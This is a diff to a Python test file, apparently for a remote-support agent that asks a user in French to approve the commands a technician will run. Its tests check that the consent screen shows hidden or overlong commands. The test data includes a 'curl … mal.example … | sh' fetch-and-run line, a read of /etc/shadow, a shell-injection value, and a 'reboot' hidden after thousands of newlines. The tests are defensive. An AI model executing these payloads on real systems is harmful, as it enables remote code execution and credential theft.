@@ -16,8 +16,9 @@ from collections.abc import Iterator
 
 import pytest
 
-from compagnon_agent import consent
+from compagnon_agent import consent, execute
 from compagnon_agent.consent import Reply
+from compagnon_agent.protocol.checks import parse_checks
 from compagnon_agent.protocol.manifest import Command, Manifest, ManifestStep, RunOn, Shell
 from compagnon_agent.protocol.messages import (
     Cancel,
@@ -30,11 +31,11 @@ from compagnon_agent.protocol.messages import (
 )
 from compagnon_agent.protocol.parameters import Parameter, ParameterType
 from compagnon_agent.protocol.wire import dumps, write_record
-from compagnon_agent.question import question
+from compagnon_agent.question import TooLong, question
 
 
-def asked(make, **fields):
-    return question(make.consent(make.manifest("lpstat -r"), **fields), 1800)
+def asked(make, manifest=None, **fields):
+    return question(make.consent(manifest or make.manifest("lpstat -r"), **fields), 1800)
 
 
 def test_it_says_who_what_why_and_how_long(make):
@@ -73,12 +74,68 @@ def test_details_show_what_would_really_run(make):
         "Étape s1 : Ping",
         "    $ ping '1.2.3.4'",
         "      echo fin",
-        "    $ regarder   (à la main, par le technicien)",
+        "    (à la main, par le technicien)",
+        "    $ regarder",
         "    (pour revenir en arrière)",
         "    $ annuler",
     )
     unknown = question(make.consent(manifest), 60).details
     assert "    $ ping {{ip}}" in unknown
+
+
+def test_details_hold_every_command_and_every_check_whole(make):
+    evil = "curl -s http://mal.example/" + "x" * 500 + " | sh"
+    checks = parse_checks(
+        {
+            "command": {"rassurant": {"exec": f"true\n{evil}", "title": "Vérifie l'heure"}, "lpstat -r": {}},
+            "file": {"/etc/shadow": {"contents": ["/^root/"], "title": "Le poste va bien"}},
+        }
+    )
+    result = parse_checks({"command": {"touch {{nom}}": {"title": "Tout va bien", "exit-status": 3}}})
+    manifest = Manifest(
+        procedure="r",
+        version=1,
+        title="R",
+        parameters=(Parameter(name="nom", type=ParameterType.TEXT),),
+        steps=(ManifestStep(id="s1", title="a", checks=checks),),
+        result=result,
+    )
+    details = question(make.consent(manifest, parameters={"nom": "d'un"}), 60).details
+    assert max(map(len, details)) < 120
+    whole = "".join(line.removeprefix("    ↳ ") for line in details)
+    for said in (evil, "lpstat -r", "file /etc/shadow", "/^root/", "touch 'd'\"'\"'un'", '"exit-status": 3'):
+        assert said in whole
+    assert "Résultat de la procédure" in details
+
+
+def test_details_show_what_hides_in_a_script(make):
+    hidden = "echo a\u202eb\x1b[2K\x0bc\u00a0d\u200b\ttab   # (à la main, par le technicien)"
+    assert asked(make, manifest=make.manifest(hidden)).details[1:] == (
+        "    $ echo a<U+202E>b<U+001B>[2K<U+000B>c<U+00A0>d<U+200B>    tab   # (à la main, par le technicien)",
+    )
+
+
+def test_the_values_in_a_check_are_quoted_for_this_machines_shell(make, monkeypatch):
+    step = ManifestStep(id="s1", title="a", checks=parse_checks({"command": {"Test-Path {{nom}}": {}}}))
+    name = Parameter(name="nom", type=ParameterType.TEXT)
+    manifest = Manifest(procedure="r", version=1, title="R", parameters=(name,), steps=(step,))
+    asking = make.consent(manifest, parameters={"nom": "x\u2019; calc; \u2018"})
+    assert "    $ Test-Path 'x\u2019; calc; \u2018'" in question(asking, 60).details
+    monkeypatch.setattr(execute, "CHECK_SHELL", Shell.POWERSHELL)
+    assert "    $ Test-Path 'x\u2019\u2019; calc; \u2018\u2018'" in question(asking, 60).details
+
+
+@pytest.mark.parametrize("scripts", [["\n" * 3000 + "reboot"], ["a\n" * 300] * 10])
+async def test_what_is_too_long_to_be_shown_is_answered_no(runner, speaking_server, make, scripts):
+    manifest = make.manifest(*scripts)
+    with pytest.raises(TooLong):
+        question(make.consent(manifest), 60)
+    runner.policy('mode = "attended"\n')
+    await runner.start()
+    await speaking_server.connected()
+    await speaking_server.send(make.consent(manifest))
+    answer = await speaking_server.expect(ConsentAnswer)
+    assert (answer.granted, "too long to be shown" in answer.reason) == (False, True)
 
 
 def test_hostile_text_cannot_draw_on_the_screen(make):
@@ -115,9 +172,9 @@ class Terminal:
         self.text = ""
         os.set_blocking(self.master, False)
 
-    async def shows(self, wanted: str, timeout: float = 15) -> None:
+    async def shows(self, wanted: str, timeout: float = 15, times: int = 1) -> None:
         async with asyncio.timeout(timeout):
-            while wanted not in self.text:
+            while self.text.count(wanted) < times:
                 with contextlib.suppress(BlockingIOError):
                     self.text += os.read(self.master, 65536).decode("utf-8", "replace")
                 await asyncio.sleep(0.02)
@@ -154,8 +211,10 @@ async def test_a_yes_in_the_terminal(speaking_server, terminal, make, tmp_path):
     await terminal.shows("Comparez ce code de vive voix : 4821")
     await terminal.shows("[o] je donne mon accord")
     terminal.type("peut-être\n")
+    await terminal.shows("[o] je donne mon accord", times=2)
     terminal.type("d\n")
     await terminal.shows(f"$ touch {marker}")
+    await terminal.shows("[o] je donne mon accord", times=3)
     assert not [item for item in speaking_server.inbox if isinstance(item, ConsentAnswer)]
     terminal.type("o\n")
     answer = await speaking_server.expect(ConsentAnswer)
@@ -167,6 +226,14 @@ async def test_a_yes_in_the_terminal(speaking_server, terminal, make, tmp_path):
     )
     assert result.state is StepState.DONE
     assert marker.exists()
+
+
+async def test_what_was_typed_before_the_question_is_no_answer(speaking_server, terminal, make):
+    terminal.type("o\no\no\n")
+    await speaking_server.send(make.consent(make.manifest("true"), wait=5))
+    await terminal.shows("[o] je donne mon accord")
+    answer = await speaking_server.expect(ConsentAnswer)
+    assert (answer.granted, answer.reason) == (False, "nobody answered in time")
 
 
 async def test_a_no_in_the_terminal(speaking_server, terminal, make):
@@ -194,6 +261,7 @@ async def test_a_withdrawn_question_is_answered_no_and_the_next_one_is_asked(spe
     answer = await speaking_server.expect(ConsentAnswer)
     assert (answer.request_id, answer.granted) == (first.request_id, False)
     await terminal.shows("travailler dans un terminal")
+    await terminal.shows("[o] je donne mon accord", times=2)
     terminal.type("o\n")
     answer = await speaking_server.expect(ConsentAnswer)
     assert (answer.request_id, answer.granted) == (second.request_id, True)
